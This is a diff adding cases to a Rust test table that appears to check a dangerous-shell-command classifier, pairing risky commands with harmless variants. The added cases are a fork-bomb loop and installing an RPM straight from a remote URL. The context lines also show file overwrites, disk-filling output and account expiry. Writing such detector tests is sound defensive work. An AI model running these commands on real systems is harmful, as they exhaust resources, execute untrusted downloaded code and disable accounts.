@@ -221,6 +221,16 @@ const CASES: &[(&str, &str, &str)] = &[
     ),
     ("overwrite.project", "copy /y NUL a.c", "copy /y a.c b.c"),
     ("process.bomb", "yes > a.txt", "yes > /dev/null"),
+    (
+        "process.bomb",
+        "while :; do x & done",
+        "while :; do x; done",
+    ),
+    (
+        "run.downloaded",
+        "rpm -i http://x.com/a",
+        "rpm -qp http://x.com/a",
+    ),
     ("persist", "chage -E 0 u", "chage -l u"),
     (
         "persist",
